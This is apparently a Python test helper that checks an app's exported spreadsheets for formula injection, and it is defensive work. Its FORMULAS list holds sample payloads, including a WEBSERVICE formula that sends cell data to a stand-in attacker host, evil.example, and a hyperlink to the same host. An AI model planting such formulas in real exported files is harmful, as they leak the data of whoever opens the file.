"""Spreadsheet files the app writes, checked for anything a spreadsheet would run as a formula."""

from __future__ import annotations

import io
import zipfile

import openpyxl

# Text a spreadsheet takes for a formula: a leading = + - @, tab or carriage return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/","Open the full data")',
    '=WEBSERVICE("http://evil.example/?"&A2)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def cells(book):
    """Every cell of every sheet of an openpyxl workbook."""
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def no_formulas(xlsx: bytes) -> None:
    """Not one formula in the file: openpyxl sees none, and no sheet's XML holds an <f> element."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    assert [c.coordinate for c in cells(book) if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
